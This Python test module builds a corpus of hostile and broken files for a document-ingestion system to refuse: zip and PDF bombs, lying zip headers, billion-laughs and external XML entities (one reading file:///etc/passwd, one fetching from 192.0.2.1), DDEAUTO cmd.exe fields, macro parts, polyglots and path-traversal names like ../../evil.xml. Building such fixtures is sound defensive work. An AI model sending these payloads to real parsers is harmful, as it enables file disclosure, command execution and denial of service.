"""Hostile and broken files, made here: bombs, lies, macros, two faces, entities, passwords, other formats."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

import xlsxwriter

from bihuan.files.tests.papers import lines, pdf

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ORDER = "市水利局要在6月底前完成清淤。"
MEGABYTE = 1_000_000
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Bad:
    """A file that must be refused; some only when they are read, for nothing else opens them here."""

    name: str
    content: Callable[[], bytes]
    only_read: bool = False
    is_slow: bool = False


def body(words: str = ORDER) -> bytes:
    """The main part of a Word file."""
    paragraph = f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"
    return f'<w:document xmlns:w="{W}"><w:body>{paragraph}</w:body></w:document>'.encode()


def archive(parts: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compress) as writing:
        for name, content in parts.items():
            writing.writestr(name, content)
    return stream.getvalue()


def types(more: str = "") -> bytes:
    return f'<?xml version="1.0"?><Types xmlns="{TYPES}">{more}</Types>'.encode()


def word(document: bytes | None = None, **parts: bytes) -> bytes:
    """A Word file with these further parts; __ stands for a slash, and a name may be given with **{}."""
    given = {"[Content_Types].xml": types(), "word/document.xml": body() if document is None else document}
    return archive(given | {name.replace("__", "/"): content for name, content in parts.items()})


def book(**parts: bytes) -> bytes:
    """A workbook with these parts put in or put in place of others."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as made:
        made.add_worksheet().write(0, 0, ORDER)
    with zipfile.ZipFile(stream) as source:
        return archive({name: source.read(name) for name in source.namelist()} | parts)


def paper(*pages: list) -> bytes:
    with TemporaryDirectory() as folder:
        return pdf(Path(folder) / "a.pdf", list(pages)).read_bytes()


def relation(kind: str, target: str) -> bytes:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'.encode()


def ole(name: str) -> bytes:
    return OLE + name.encode("utf-16-le") + bytes(600)


def doctype(inside: str, word: str = "") -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE a [%s]>' % inside.encode() + body(word or ORDER)


def entities() -> bytes:
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return doctype('<!ENTITY e0 "haha">' + steps, "&e11;")


def lying() -> bytes:
    """The directory says a hundred bytes; the part unpacks to fifty megabytes."""
    honest = archive({"[Content_Types].xml": types(), "word/document.xml": bytes(50 * MEGABYTE)})
    return honest.replace(struct.pack("<I", 50 * MEGABYTE), struct.pack("<I", 100))


def overlapping() -> bytes:
    """Many parts that are all the same bytes."""
    one = archive({"[Content_Types].xml": types(), "word/document.xml": os.urandom(100_000)})
    start = one.index(b"PK\x01\x02")
    directory, end = one[start : one.rindex(b"PK\x05\x06")], one[one.rindex(b"PK\x05\x06") :]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/document.xml", b"word/a%07d.xml.." % n) for n in range(900))
    count = 902
    tail = struct.pack("<4s4H2IH", end[:4], 0, 0, count, count, len(directory + copies), start, 0)
    return one[:start] + directory + copies + tail


def long_directory() -> bytes:
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    junk = entry * (15 * MEGABYTE // len(entry))
    return b"PK\x03\x04" + junk + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, len(junk), 4, 0)


def twice() -> bytes:
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as writing:
        writing.NameToInfo.pop("word/document.xml")
        writing.writestr("word/document.xml", body("别的内容。"))
    return stream.getvalue()


def locked_parts() -> bytes:
    """Parts that say they are encrypted."""
    content = bytearray(word())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + flags] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def squeezed() -> bytes:
    return archive({"[Content_Types].xml": types(), "word/document.xml": body()}, zipfile.ZIP_BZIP2)


def far_cell() -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
        "</sheetData></worksheet>"
    )
    return book(**{"xl/worksheets/sheet1.xml": sheet.encode()})


def locked_pdf() -> bytes:
    lock = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (
        b"ab" * 32,
        b"cd" * 32,
    )
    return paper(lines(ORDER)).replace(b"/Root 1 0 R", b"/Root 1 0 R" + lock)


def bomb_pdf() -> bytes:
    content = zlib.compress(b"BT /F1 1 Tf <6c34> Tj ET\n" * 8 * MEGABYTE, 9)
    return pdf_of(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(content), content))


def endless_pdf() -> bytes:
    return paper(lines(ORDER)).replace(b"/Kids[6 0 R]", b"/Kids[2 0 R]")


def pdf_of(stream: bytes) -> bytes:
    made = paper(lines(ORDER))
    return (
        made[: made.index(b"7 0 obj")]
        + b"7 0 obj"
        + stream
        + b"\nendobj\ntrailer<</Size 8/Root 1 0 R>>\n%%EOF"
    )


def deep() -> bytes:
    return word(f'<w:document xmlns:w="{W}"><w:body>'.encode() + b"<w:ins>" * 300_000 + b"</w:ins>" * 300_000
                + b"</w:body></w:document>")  # fmt: skip


def many_paragraphs() -> bytes:
    start = f'<w:document xmlns:w="{W}"><w:body>'.encode()
    lot = b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % n for n in range(2_000_000))
    return word(start + lot + b"</w:body></w:document>")


def texts() -> Iterator[Bad]:
    """What is no document, or holds no words."""
    yield Bad("nothing.docx", lambda: b"")
    yield Bad("too large.txt", lambda: ORDER.encode() * 500_000)
    yield Bad("virus test.txt", lambda: EICAR)
    yield Bad("virus test.docx", lambda: EICAR + b"\r\n")
    yield Bad("program.docx", lambda: b"MZ\x90\x00\x03" + os.urandom(4000))
    yield Bad("program.txt", lambda: b"\x7fELF\x02\x01\x01" + bytes(4000))
    yield Bad("noise.pdf", lambda: b"\x00" + os.urandom(50_000))
    yield Bad("zeros.txt", lambda: bytes(100_000))
    yield Bad("no mark.txt", lambda: ORDER.encode("utf-16-le"))
    yield Bad("rich.docx", lambda: rb"{\rtf1\ansi " + ORDER.encode() + b"}")
    yield Bad(
        "archive.mht",
        lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + ORDER.encode(),
    )
    yield Bad("flat.xml", lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>')
    yield Bad("a.tar.gz", lambda: b"\x1f\x8b\x08\x00" + os.urandom(2000))
    yield Bad("a.rar", lambda: b"Rar!\x1a\x07\x01\x00" + os.urandom(2000))
    yield Bad("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + os.urandom(2000))
    yield Bad("blanks.txt", lambda: b" \n\t" * 1000, only_read=True)
    yield Bad(
        "mixed letters.txt", lambda: (ORDER * 20).encode() + b"\xff\xff" + ORDER.encode(), only_read=True
    )
    yield Bad("endless.txt", lambda: ORDER.encode() * 200_000, only_read=True)


def old_and_other() -> Iterator[Bad]:
    """Formats that the house does not open."""
    yield Bad("old.doc", lambda: ole("WordDocument"))
    yield Bad("old.wps", lambda: ole("WpsDocument") + ole("WordDocument"))
    yield Bad("old.xls", lambda: ole("Workbook"))
    yield Bad("locked.docx", lambda: ole("EncryptedPackage"))
    yield Bad("locked parts.docx", locked_parts)
    yield Bad(
        "slides.pptx", lambda: archive({"[Content_Types].xml": types(), "ppt/presentation.xml": b"<a/>"})
    )
    yield Bad("paper.ofd", lambda: archive({"OFD.xml": b"<a/>"}))
    yield Bad("writer.odt", lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text"}))
    yield Bad("binary.xlsb", lambda: archive({"[Content_Types].xml": types(), "xl/workbook.bin": b"a"}))
    yield Bad("plain.zip", lambda: archive({"讲话.docx": word()}))
    yield Bad("zip in zip.docx", lambda: archive({"a.zip": archive({"b.zip": archive({"c.txt": b"c"})})}))
    yield Bad("program.jar", lambda: archive({"META-INF/MANIFEST.MF": b"a", "A.class": b"b"}))
    yield Bad("empty archive.docx", lambda: archive({}))


def deeds() -> Iterator[Bad]:
    """Files that would do something when they are opened."""
    macro = types(
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    enabled = types('<Default ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>')
    yield Bad("macro.docm", lambda: word(**{"[Content_Types].xml": macro, "word__vbaProject.bin": b"a"}))
    yield Bad("macro.xlsm", lambda: book(**{"[Content_Types].xml": enabled}))
    yield Bad("renamed macro.docx", lambda: word(**{"[Content_Types].xml": macro, "word__media.bin": b"a"}))
    yield Bad("macro in capitals.docx", lambda: word(**{"custom__VBAPROJECT.BIN": b"a"}))
    yield Bad("wide macro.docx", lambda: word(**{"[Content_Types].xml": macro.decode().encode("utf-16")}))
    yield Bad("macro sheet.xlsx", lambda: book(**{"xl/macrosheets/sheet1.xml": b"<a/>"}))
    template = relation("attachedTemplate", "https://example.org/a.dotm")
    yield Bad("template.docx", lambda: word(**{"word___rels__settings.xml.rels": template}))
    linked = relation("oleObject", r"\\192.0.2.1\a\b.xlsx")
    yield Bad("linked object.docx", lambda: word(**{"word___rels__document.xml.rels": linked}))
    yield Bad(
        "dde.xlsx",
        lambda: book(**{"xl/externalLinks/externalLink1.xml": b'<a><ddeLink ddeService="cmd"/></a>'}),
    )
    field = body("@").replace(b"<w:t>@</w:t>", b"<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>")
    yield Bad("dde.docx", lambda: word(field))
    simple = body("@").replace(b"<w:t>@</w:t>", b'<w:fldSimple w:instr=" DDE cmd a"/>')
    yield Bad("simple dde.docx", lambda: word(simple))
    yield Bad("packed program.docx", lambda: word(**{"word__embeddings__a.exe": b"MZ"}))
    yield Bad("packed zip.docx", lambda: word(**{"word__embeddings__a.zip": archive({"a": b"a"})}))
    yield Bad("entities.docx", lambda: word(entities()))
    yield Bad("file.docx", lambda: word(doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")))
    yield Bad("outside.docx", lambda: word(doctype('<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;')))
    yield Bad("wide entities.docx", lambda: word(entities().decode().encode("utf-16")))
    yield Bad("entities.xlsx", lambda: book(**{"xl/worksheets/sheet1.xml": entities()}))
    yield Bad("styles.docx", lambda: word(**{"word__styles.xml": doctype('<!ENTITY x "y">')}))


def two_faced() -> Iterator[Bad]:
    """Files that one program takes for this and another one for that, and files with a piece missing."""
    yield Bad("pdf and zip.pdf", lambda: paper(lines(ORDER)) + word())
    yield Bad("png and zip.png", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + word())
    yield Bad("jpg and zip.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(40) + word())
    yield Bad("zip and pdf.docx", lambda: archive({"%PDF-1.7": b"a", "[Content_Types].xml": types()}))
    yield Bad("page and pdf.html", lambda: b"<script>a()</script>" + b"%PDF-1.7\n%%EOF" + bytes(20))
    yield Bad("program and docx.docx", lambda: b"MZ\x90\x00" + bytes(100) + word())
    yield Bad("tail.docx", lambda: word() + b"<script>a()</script>")
    yield Bad("two bodies.docx", twice)
    yield Bad("half.docx", lambda: word()[: len(word()) // 2])
    yield Bad("half.xlsx", lambda: book()[:2000])
    yield Bad("half.pdf", lambda: paper(lines(ORDER))[:300], only_read=True)
    yield Bad("upwards.docx", lambda: word(**{"../../evil.xml": b"<a/>"}))
    yield Bad("from the root.docx", lambda: word(**{"/etc/evil.xml": b"<a/>"}))


def bombs() -> Iterator[Bad]:
    """Small files that become large ones."""
    yield Bad("steep.docx", lambda: word(**{"word__media__a.xml": bytes(100 * MEGABYTE)}))
    yield Bad("steep.xlsx", lambda: book(**{"xl/worksheets/sheet9.xml": bytes(100 * MEGABYTE)}))
    yield Bad("wide.docx", lambda: word(**{f"word__media__{n}.bin": bytes(900_000) for n in range(250)}))
    yield Bad("many parts.docx", lambda: word(**{f"word__media__{n}.bin": b"" for n in range(6000)}))
    yield Bad("overlap.docx", overlapping)
    yield Bad("lie.docx", lying)
    yield Bad("directory.docx", long_directory)
    yield Bad("bzip.docx", squeezed)
    yield Bad("deep.docx", deep, only_read=True)
    yield Bad("far cell.xlsx", far_cell, only_read=True)
    yield Bad("paragraphs.docx", many_paragraphs, only_read=True, is_slow=True)
    yield Bad("letters.pdf", bomb_pdf, only_read=True, is_slow=True)
    yield Bad("unclosed.html", lambda: b"<html>" + b"<a " * 3 * MEGABYTE, only_read=True, is_slow=True)
    yield Bad("endless.pdf", endless_pdf, only_read=True)
    yield Bad("locked.pdf", locked_pdf, only_read=True)
    yield Bad("pictures.pdf", lambda: paper([], []), only_read=True)


def all_of_them() -> list[Bad]:
    """The whole corpus."""
    return [*texts(), *old_and_other(), *deeds(), *two_faced(), *bombs()]
